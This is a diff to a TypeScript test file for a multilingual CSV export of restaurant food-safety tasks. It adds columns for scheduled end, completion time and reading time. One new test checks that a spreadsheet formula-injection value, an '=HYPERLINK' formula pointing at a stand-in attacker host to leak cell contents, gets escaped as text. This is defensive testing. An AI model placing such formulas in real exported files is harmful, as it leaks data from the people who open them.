@@ -85,16 +85,16 @@ describe('renderTasksCsv', () => {
   it('writes the header line of each language', () => {
     const french = renderTasksCsv(exportOf([]));
     expect(french).toBe(
-      '\uFEFFMagasin;Module;Date;Heure;Tâche;Employé;Statut;Anomalie;Élément/Action;' +
-        'Première température (°C);Température (°C);Température de contrôle (°C);Commentaire;' +
+      '\uFEFFMagasin;Module;Date;Heure;Fin prévue;Réalisée le;Tâche;Employé;Statut;Anomalie;' +
+        'Élément/Action;Heure du relevé;Première température (°C);Température (°C);Température de contrôle (°C);Commentaire;' +
         'Effectuée;Nettoyé;Huile changée;Huile filtrée;Filtre changé;Polarité (%);Mode;Cible (°C);' +
         'Température de début (°C);Heure de début;Température de fin (°C);Heure de fin;Durée (s);' +
         'Photos\r\n',
     );
     const english = renderTasksCsv(exportOf([], 'en'));
     expect(english).toBe(
-      '\uFEFFStore;Module;Date;Time;Task;Employee;Status;Anomaly;Element/Action;' +
-        'First temperature (°C);Temperature (°C);Control temperature (°C);Comment;Done;Cleaned;' +
+      '\uFEFFStore;Module;Date;Time;Scheduled end;Completed at;Task;Employee;Status;Anomaly;' +
+        'Element/Action;Reading time;First temperature (°C);Temperature (°C);Control temperature (°C);Comment;Done;Cleaned;' +
         'Oil changed;Oil filtered;Filter changed;Polarity (%);Mode;Target (°C);' +
         'Start temperature (°C);Start time;End temperature (°C);End time;Duration (s);Pictures\r\n',
     );
@@ -104,7 +104,7 @@ describe('renderTasksCsv', () => {
       expect(new Set(header).size).toBe(csvColumns.length);
     }
     expect(parseCsv(renderTasksCsv(exportOf([], 'de')).slice(1))[0]![0]).toBe('Filiale');
-    expect(parseCsv(renderTasksCsv(exportOf([], 'pl')).slice(1))[0]![8]).toBe('Element/Czynność');
+    expect(parseCsv(renderTasksCsv(exportOf([], 'pl')).slice(1))[0]![10]).toBe('Element/Czynność');
   });
 
   it('matches byte for byte on a small case: BOM, ";", CRLF, dot decimals, empty cells', () => {
@@ -154,17 +154,19 @@ describe('renderTasksCsv', () => {
     expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     expect(csv).toBe(
       '\uFEFF' +
-        'Magasin;Module;Date;Heure;Tâche;Employé;Statut;Anomalie;Élément/Action;' +
-        'Première température (°C);Température (°C);Température de contrôle (°C);Commentaire;' +
+        'Magasin;Module;Date;Heure;Fin prévue;Réalisée le;Tâche;Employé;Statut;Anomalie;' +
+        'Élément/Action;Heure du relevé;Première température (°C);Température (°C);Température de contrôle (°C);Commentaire;' +
         'Effectuée;Nettoyé;Huile changée;Huile filtrée;Filtre changé;Polarité (%);Mode;Cible (°C);' +
         'Température de début (°C);Heure de début;Température de fin (°C);Heure de fin;Durée (s);' +
         'Photos\r\n' +
-        'Bistro Łódź;Températures;22/11/2026;08:00;Relevé frigo;Zofia Wójcik;Effectuée;' +
-        'Température non prise;Frigo 1;4;3.5;;RAS;;;;;;;;;;;;;;1\r\n' +
-        'Bistro Łódź;Températures;22/11/2026;08:00;Relevé frigo;Zofia Wójcik;Effectuée;' +
-        'Température non prise;Frigo 1;;;;;;;;;;;;;;;;;;0\r\n' +
-        'Bistro Łódź;Contrôle de température;22/11/2026;13:30;Refroidissement;;En retard;' +
-        'En retard;;;;;;;;;;;;;;;;;;;\r\n',
+        'Bistro Łódź;Températures;22/11/2026;08:00;09:00;22/11/2026 08:20;Relevé frigo;' +
+        'Zofia Wójcik;Effectuée;Température non prise;Frigo 1;18/11/2026 12:06;4;3.5;;RAS;' +
+        ';;;;;;;;;;;;;1\r\n' +
+        'Bistro Łódź;Températures;22/11/2026;08:00;09:00;22/11/2026 08:20;Relevé frigo;' +
+        'Zofia Wójcik;Effectuée;Température non prise;Frigo 1;18/11/2026 12:06;;;;;' +
+        ';;;;;;;;;;;;;0\r\n' +
+        'Bistro Łódź;Contrôle de température;22/11/2026;13:30;14:30;;Refroidissement;;' +
+        'En retard;En retard;;;;;;;;;;;;;;;;;;;;\r\n',
     );
   });
 
@@ -377,5 +379,38 @@ describe('renderTasksCsv', () => {
     expect(record!.comment).toBe("'@SUM(A1)");
     // Numbers are never prefixed.
     expect(record!.temperature).toBe('-2');
+  });
+
+  it('writes a store or an employee named like a formula as text (one guarded writer)', () => {
+    const task = buildTask('traceability', {
+      employee: { name: '=HYPERLINK("http://evil.example/?"&A1', surname: '"x")' },
+    });
+    const input = exportOf([{ module: 'traceability', items: [task] }]);
+    input.store.name = '+Bistro';
+    const [record] = recordsOf(renderTasksCsv(input));
+    expect(record!.employee).toBe('\'=HYPERLINK("http://evil.example/?"&A1 "x")');
+    expect(record!.store).toBe("'+Bistro");
+  });
+
+  it('tells when each task was scheduled and completed, and when each reading was taken', () => {
+    const task = buildTask('temperatures', {
+      start: '2026-11-22T07:00:00Z',
+      duration: 90,
+      completed_timestamp: '2026-11-22T09:12:00Z',
+      elements: [fridge],
+      result: {
+        entries: [reading({ temperature: 3, timestamp: Date.UTC(2026, 10, 22, 9, 5) / 1000 })],
+      },
+    });
+    const [record] = recordsOf(
+      renderTasksCsv(exportOf([{ module: 'temperatures', items: [task] }])),
+    );
+    expect(record).toMatchObject({
+      date: '22/11/2026',
+      time: '08:00',
+      scheduled_end: '09:30',
+      completed_at: '22/11/2026 10:12',
+      reading_time: '22/11/2026 10:05',
+    });
   });
 });
